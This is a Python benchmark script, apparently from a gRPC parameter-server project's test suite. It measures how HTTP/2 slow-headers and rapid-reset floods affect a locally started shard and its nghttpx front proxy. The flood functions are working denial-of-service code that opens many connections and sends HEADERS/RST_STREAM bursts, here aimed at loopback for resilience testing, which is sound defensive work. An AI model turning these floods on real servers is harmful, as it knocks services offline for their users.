#!/usr/bin/python3
"""HTTP/2 floods against a shard while a worker pushes: slow headers (many
connections each opening a stream whose header block never ends) and rapid
reset (HEADERS then RST_STREAM, as fast as the socket takes them, on
several connections, reconnecting whenever one is closed). Debian's gRPC
1.51 predates the 2023 rapid-reset fixes; this measures what such a flood
does to a concurrent worker, against the shard directly or through the
front proxy of the deploy files (nghttpx with deploy/proxy/nghttpx.conf,
tests/fpsproxy.py).

Phases, each PHASE seconds: quiet, slow headers, rapid reset, quiet.
Reported: the worker's push latency p50/p99 per phase and against the
first quiet phase (the undisturbed run), the shard's (and the proxy's)
peak RSS, and whether the shard still answers. Loopback only; every
process and socket it starts is closed at the end.

Usage: FPS_SERVER=build/server/factorps-server FPS_PROTO_DIR=proto \\
       /usr/bin/python3 tests/bench/h2_flood.py [--proxy] [PHASE_SECONDS]
tests/security/test_front_proxy.py runs measure() as a test."""
import os
import socket
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "interop"))
sys.path.insert(0, os.path.dirname(HERE))

import numpy as np  # noqa: E402

import fpsharness as H  # noqa: E402
import fpsproxy  # noqa: E402
from test_receive_window import END_HEADERS, HEADERS, RST_STREAM, SETTINGS, frame, literal  # noqa: E402

CONNS = 4
PHASES = ("quiet1", "slow_headers", "rapid_reset", "quiet2")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def peak_rss(pid):
    """VmHWM of pid, and of its children (nghttpx's worker process)."""
    total = 0
    pids = [pid]
    try:
        with open("/proc/%d/task/%d/children" % (pid, pid)) as f:
            pids += [int(p) for p in f.read().split()]
    except OSError:
        pass
    for p in pids:
        try:
            with open("/proc/%d/status" % p) as f:
                for line in f:
                    if line.startswith("VmHWM:"):
                        total += int(line.split()[1]) << 10
        except OSError:
            pass
    return total


def hdrs(addr):
    return (literal(b":method", b"POST") + literal(b":scheme", b"http") +
            literal(b":path", b"/factorps.v1.ParameterServer/Stats") + literal(b":authority", addr.encode()) +
            literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def drain(s):
    """Reads what is there; False once the peer closed the connection."""
    try:
        while True:
            b = s.recv(1 << 16)
            if not b:
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def dial(host, port):
    s = socket.create_connection((host, int(port)), timeout=5)
    s.sendall(PREFACE)
    s.setblocking(False)
    return s


def rapid_reset(addr, stop, sent):
    """sent[0]: HEADERS+RST_STREAM pairs written; sent[1]: reconnects (a
    peer that closes an abusive connection, as nghttpx does, gets a new
    one at once)."""
    host, port = addr.rsplit(":", 1)
    block = hdrs(addr)
    socks = []
    sent.append(0)
    try:
        for _ in range(CONNS):
            socks.append([dial(host, port), 1])
        while not stop.is_set():
            for c in socks:
                s, sid = c
                burst = b"".join(frame(HEADERS, END_HEADERS, sid + 2 * k, block) +
                                 frame(RST_STREAM, 0, sid + 2 * k, b"\x00\x00\x00\x08") for k in range(64))
                alive = True
                try:
                    s.sendall(burst)
                    c[1] = sid + 128
                    sent[0] += 64
                except BlockingIOError:
                    pass
                except OSError:
                    alive = False
                alive = drain(s) and alive
                if not alive or c[1] > (1 << 30):  # closed, or stream ids ran out
                    s.close()
                    try:
                        c[0], c[1] = dial(host, port), 1
                        sent[1] += 1
                    except OSError:
                        c[0], c[1] = socket.socket(), 1  # fails on the next send: dial again
                        time.sleep(0.01)
    finally:
        for s, _ in socks:
            s.close()


def slow_headers(addr, stop, sent):
    """Connections that open streams with HEADERS lacking END_HEADERS (a
    header block that never ends), one more every few ms, up to 512."""
    host, port = addr.rsplit(":", 1)
    socks = []
    block = hdrs(addr)
    try:
        while not stop.is_set() and len(socks) < 512:
            try:
                s = socket.create_connection((host, int(port)), timeout=5)
                s.sendall(PREFACE + frame(HEADERS, 0, 1, block[:len(block) // 2]))
                socks.append(s)
                sent[0] += 1
            except OSError:
                pass
            time.sleep(0.005)
        stop.wait()
    finally:
        for s in socks:
            s.close()


FLOODS = {"slow_headers": slow_headers, "rapid_reset": rapid_reset}


def pct(xs, q):
    xs = sorted(xs)
    return xs[min(len(xs) - 1, int(q * len(xs)))] if xs else float("nan")


def measure(phase_s=5.0, proxy=False, phases=PHASES, server_args=("--mode", "async"), min_pushes=0):
    """Runs the phases (names in FLOODS flood, any other is quiet) against a
    new shard, through a new front proxy if `proxy`. Returns a dict: lat
    {phase: [seconds]}, sent {phase: [counts]}, errors [(phase, text)],
    rss0 / rss1 (shard peak RSS before the first phase / at the end),
    proxy_rss, answer (a Stats at the end: the version of w, or the
    error). With `min_pushes`, a phase that saw fewer of the worker's pushes
    goes on until it has them, up to 8 x phase_s: a test asks whether the
    worker is served at all, and on a loaded machine the flood's own CPU
    can leave it only one push in a short phase."""
    srv = H.Server(*server_args)
    px = fpsproxy.FrontProxy(srv.addr) if proxy else None
    target = px.addr if px else srv.addr
    pb, pbg, grpc = H.stubs()
    opts = [("grpc.max_receive_message_length", H.MAX_MSG), ("grpc.max_send_message_length", H.MAX_MSG)]
    ch = grpc.insecure_channel(target, options=opts)
    stub = pbg.ParameterServerStub(ch)
    res = {"lat": {}, "sent": {}, "errors": [], "proxy": bool(proxy)}
    try:
        H.create(stub, "w", [256, 256], np.zeros(256 * 256, np.float32))
        g = np.full(256 * 256, 1e-3, np.float32)
        phase = ["warmup"]
        stop_all = threading.Event()

        def worker():
            step = 0
            while not stop_all.is_set():
                t0 = time.monotonic()
                try:
                    H.push(stub, 0, step, {"w": ([256, 256], g)}, timeout=30)
                except Exception as e:  # noqa: BLE001 - counted and reported
                    res["errors"].append((phase[0], repr(e)[:200]))
                res["lat"].setdefault(phase[0], []).append(time.monotonic() - t0)
                step += 1

        wt = threading.Thread(target=worker)
        wt.start()
        time.sleep(1)
        res["rss0"] = peak_rss(srv.proc.pid)
        try:
            for name in phases:
                phase[0] = name
                stop = threading.Event()
                count = [0]
                fn = FLOODS.get(name)
                th = threading.Thread(target=fn, args=(target, stop, count)) if fn else None
                if th:
                    th.start()
                time.sleep(phase_s)
                until = time.monotonic() + 7 * phase_s
                while len(res["lat"].get(name, [])) < min_pushes and time.monotonic() < until:
                    time.sleep(0.05)
                stop.set()
                if th:
                    th.join(30)
                res["sent"][name] = count
        finally:
            stop_all.set()
            wt.join(60)
        res["rss1"] = peak_rss(srv.proc.pid)
        res["proxy_rss"] = peak_rss(px.proc.pid) if px else 0
        try:
            res["answer"] = "version of w = %d" % H.stats(stub, timeout=30)[1]["w"].version
        except Exception as e:  # noqa: BLE001 - reported
            res["answer"] = "no: " + repr(e)[:160]
    finally:
        ch.close()
        if px:
            px.close()
        srv.kill()
        srv.remove()
    return res


def report(res, phases=PHASES):
    base = pct(res["lat"].get(phases[0], []), 0.99)
    lines = ["%s: phase          pushes   p50 ms   p99 ms   p99/%s  sent" %
             ("through nghttpx" if res["proxy"] else "direct", phases[0])]
    for name in phases:
        xs = res["lat"].get(name, [])
        lines.append("%-13s %7d %8.2f %8.2f %9.2fx  %s" % (name, len(xs), pct(xs, 0.5) * 1e3, pct(xs, 0.99) * 1e3,
                                                          pct(xs, 0.99) / base, res["sent"].get(name, "")))
    lines.append("shard peak RSS: %.1f MiB before the floods, %.1f MiB at the end%s" %
                 (res["rss0"] / 2 ** 20, res["rss1"] / 2 ** 20,
                  "; proxy peak RSS %.1f MiB" % (res["proxy_rss"] / 2 ** 20) if res["proxy"] else ""))
    lines.append("push errors: %d %s" % (len(res["errors"]), res["errors"][:3]))
    lines.append("shard still answering: %s" % res["answer"])
    return "\n".join(lines)


def main():
    args = sys.argv[1:]
    proxy = "--proxy" in args
    args = [a for a in args if a != "--proxy"]
    print(report(measure(float(args[0]) if args else 5.0, proxy=proxy)))


if __name__ == "__main__":
    main()
